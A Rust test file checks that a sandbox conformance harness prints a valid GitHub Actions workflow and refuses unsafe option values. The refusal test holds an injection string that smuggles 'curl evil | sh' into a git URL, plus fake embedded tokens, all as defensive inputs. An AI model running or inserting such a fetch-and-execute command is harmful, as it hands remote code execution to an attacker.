//! `sandbox-conformance ci-template github` prints a valid GitHub Actions workflow that runs both
//! host profiles, keeps JUnit and the failure transcripts, installs this harness (crates.io at
//! this version by default; `--from-git URL [--rev REV]` or `--from-path DIR` until it is
//! published), and uses only flags the harness has (asked from the binary's own `--help`), in
//! every variant; the book shows the default file.

use std::path::Path;
use std::process::{Command, Output, Stdio};

use paperclip_sandbox_protocol::HostProfile;
use yaml_rust2::{Yaml, YamlLoader};

const BIN: &str = env!("CARGO_BIN_EXE_sandbox-conformance");

fn harness(args: &[&str]) -> Output {
    Command::new(BIN).args(args).stdin(Stdio::null()).output().expect("the binary runs")
}

fn printed_workflow() -> String {
    printed(&[])
}

fn printed(options: &[&str]) -> String {
    let out = harness(&[&["ci-template", "github"], options].concat());
    assert!(out.status.success(), "{options:?}: {out:?}");
    String::from_utf8(out.stdout).expect("UTF-8")
}

const URL: &str = "https://github.com/paperclip-sandbox/paperclip-sandbox";

/// Every variant of the workflow: (the `ci-template github` options, the install command it
/// must run).
fn variants() -> Vec<(Vec<&'static str>, String)> {
    let version = env!("CARGO_PKG_VERSION");
    vec![
        (
            vec![],
            format!("cargo install paperclip-sandbox-conformance --version {version} --locked"),
        ),
        (
            vec!["--from-git", URL],
            format!("cargo install paperclip-sandbox-conformance --locked --profile dev-tool --git {URL}"),
        ),
        (
            vec!["--from-git", URL, "--rev", "3f2a9c1"],
            format!(
                "cargo install paperclip-sandbox-conformance --locked --profile dev-tool --git {URL} --rev 3f2a9c1"
            ),
        ),
        (
            vec!["--from-path", "vendor/paperclip-sandbox/"],
            "cargo install --locked --profile dev-tool --path vendor/paperclip-sandbox/conformance".to_owned(),
        ),
    ]
}

/// The `sandbox-conformance` invocations of a `run:` script: (subcommand, flags before `--`).
fn invocations(script: &str) -> Vec<(String, Vec<String>)> {
    let joined = script.replace("\\\n", " ");
    let mut found = Vec::new();
    for line in joined.lines() {
        let words: Vec<&str> = line.split_whitespace().collect();
        let mut rest = words.as_slice();
        while let Some(at) = rest.iter().position(|w| *w == "sandbox-conformance") {
            let args = &rest[at + 1..];
            let end = args.iter().position(|w| matches!(*w, "--" | "&&" | "||" | ";" | "|"));
            let args = &args[..end.unwrap_or(args.len())];
            let sub = args.first().expect("a subcommand").to_string();
            let flags = args.iter().filter(|a| a.starts_with('-')).map(|a| a.to_string()).collect();
            found.push((sub, flags));
            rest = &rest[at + 1..];
        }
    }
    found
}

fn steps(doc: &Yaml) -> &Vec<Yaml> {
    doc["jobs"]["conformance"]["steps"].as_vec().expect("jobs.conformance.steps is a list")
}

#[test]
fn the_github_workflow_is_valid_yaml_with_both_profiles_and_reports() {
    for (options, install) in variants() {
        let text = printed(&options);
        check_workflow(&text, &install);
        let path_variant = options.first() == Some(&"--from-path");
        let docs = YamlLoader::load_from_str(&text).unwrap();
        let checkout = steps(&docs[0])
            .iter()
            .find(|s| s["uses"].as_str().is_some_and(|u| u.starts_with("actions/checkout@")))
            .expect("a checkout step");
        assert_eq!(
            checkout["with"]["submodules"].as_str() == Some("recursive"),
            path_variant,
            "{options:?}: the checkout fetches submodules exactly for --from-path"
        );
        eprintln!("ci-template github {options:?}: installs with `{install}`");
    }
}

fn check_workflow(text: &str, install: &str) {
    let docs = YamlLoader::load_from_str(text).expect("the workflow is valid YAML");
    assert_eq!(docs.len(), 1, "one document");
    let doc = &docs[0];
    assert!(doc["on"].as_vec().is_some(), "a trigger list");
    assert!(doc["env"]["WORKER"].as_str().is_some(), "one place to name the binary");

    let matrix: Vec<&str> = doc["jobs"]["conformance"]["strategy"]["matrix"]["profile"]
        .as_vec()
        .expect("a profile matrix")
        .iter()
        .map(|p| p.as_str().expect("a profile name"))
        .collect();
    for profile in HostProfile::ALL {
        assert!(matrix.contains(&profile.as_str()), "{profile} is in the matrix: {matrix:?}");
    }

    let steps = steps(doc);
    let scripts: Vec<&str> = steps.iter().filter_map(|s| s["run"].as_str()).collect();
    let all = scripts.join("\n");
    assert!(all.contains("cargo build --release --locked"), "builds the worker");
    let installs: Vec<&str> =
        scripts.iter().copied().filter(|s| s.contains("cargo install")).collect();
    assert_eq!(installs, [install], "installs the harness one way");
    let runs = invocations(&all);
    let run_flags: Vec<&Vec<String>> =
        runs.iter().filter(|(sub, _)| sub == "run").map(|(_, f)| f).collect();
    assert_eq!(run_flags.len(), 2, "the binary and the shim are judged: {runs:?}");
    for flags in run_flags {
        for needed in ["--profile", "--junit", "--artifacts"] {
            assert!(flags.iter().any(|f| f == needed), "{needed} in {flags:?}");
        }
    }
    // The reports are uploaded: JUnit always, the transcripts when the job failed.
    let uploads: Vec<(&str, &str)> = steps
        .iter()
        .filter(|s| s["uses"].as_str().is_some_and(|u| u.starts_with("actions/upload-artifact@")))
        .map(|s| (s["if"].as_str().unwrap_or(""), s["with"]["path"].as_str().unwrap_or("")))
        .collect();
    assert!(uploads.contains(&("always()", "conformance-*.xml")), "{uploads:?}");
    assert!(uploads.contains(&("failure()", "conformance-artifacts/")), "{uploads:?}");
}

#[test]
fn every_harness_flag_the_workflow_uses_exists() {
    let mut runs = Vec::new();
    for (options, _) in variants() {
        let text = printed(&options);
        let docs = YamlLoader::load_from_str(&text).unwrap();
        let scripts: Vec<String> =
            steps(&docs[0]).iter().filter_map(|s| s["run"].as_str().map(str::to_owned)).collect();
        let found = invocations(&scripts.join("\n"));
        assert!(found.len() >= 3, "{options:?}: {found:?}");
        runs.extend(found);
    }
    // The options that print the variants exist too.
    runs.push((
        "ci-template".to_owned(),
        ["--from-git", "--rev", "--from-path"].map(str::to_owned).to_vec(),
    ));
    for (sub, flags) in runs {
        let help = harness(&[&sub, "--help"]);
        assert!(help.status.success(), "`sandbox-conformance {sub}` exists: {help:?}");
        let help = String::from_utf8_lossy(&help.stdout);
        for flag in flags {
            let known = help
                .split(|c: char| c.is_whitespace() || c == ',')
                .any(|word| word == flag || word.starts_with(&format!("{flag}=")));
            assert!(known, "`sandbox-conformance {sub} {flag}` is not in its --help:\n{help}");
        }
    }
}

#[test]
fn the_flag_check_can_fail() {
    // The check above must notice a flag the harness does not have.
    let runs = invocations("sandbox-conformance run \\\n  --no-such-flag -- x");
    assert_eq!(runs, [("run".to_owned(), vec!["--no-such-flag".to_owned()])]);
    let help = String::from_utf8_lossy(&harness(&["run", "--help"]).stdout).into_owned();
    assert!(!help.split_whitespace().any(|w| w == "--no-such-flag"));
}

#[test]
fn the_book_shows_the_printed_workflow() {
    let book = Path::new(env!("CARGO_MANIFEST_DIR")).join("../book/src/ci.md");
    let chapter = std::fs::read_to_string(book).unwrap();
    assert!(
        chapter.contains("```yaml\n{{#include ../../conformance/ci/github.yml}}\n```"),
        "the CI chapter includes conformance/ci/github.yml"
    );
    for option in ["--from-git", "--rev", "--from-path"] {
        assert!(chapter.contains(option), "the CI chapter says when to use {option}");
    }
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("ci/github.yml");
    assert_eq!(std::fs::read_to_string(file).unwrap(), printed_workflow());
}

#[test]
fn values_that_cannot_be_printed_into_the_workflow_are_refused_unquoted() {
    let bad: [&[&str]; 10] = [
        &["--from-git", "https://ghp_s3cr3t@github.com/org/repo"],
        &["--from-git", "https://example.com/repo:"],
        &["--from-git", URL, "--rev", "v1:"],
        &["--from-git", "https://example.com/a b"],
        &["--from-git", "https://example.com/x'; curl evil | sh; '"],
        &["--from-git", "https://user:s3cr3t-token@example.com/repo"],
        &["--from-git", ""],
        &["--from-git", URL, "--rev", "main#x"],
        &["--from-path=-rf"],
        &["--from-path", "dir with space"],
    ];
    for options in bad {
        let out = harness(&[&["ci-template", "github"], options].concat());
        assert_eq!(out.status.code(), Some(2), "{options:?}: {out:?}");
        assert!(out.stdout.is_empty(), "{options:?}: nothing printed");
        let stderr = String::from_utf8_lossy(&out.stderr);
        let value = options.last().unwrap();
        assert!(value.is_empty() || !stderr.contains(value), "{options:?} quoted: {stderr}");
        assert!(!stderr.contains("s3cr3t"), "{stderr}");
    }
    // An ssh URL with a user name and no password is fine.
    for url in ["git@github.com:org/repo.git", "ssh://git@example.com/org/repo"] {
        assert!(printed(&["--from-git", url]).contains(&format!("--git {url}\n")), "{url}");
    }
    // --rev needs --from-git; --from-git and --from-path exclude each other.
    for options in [&["--rev", "abc"][..], &["--from-git", URL, "--from-path", "d"]] {
        let out = harness(&[&["ci-template", "github"], options].concat());
        assert_eq!(out.status.code(), Some(2), "{options:?}: {out:?}");
    }
}
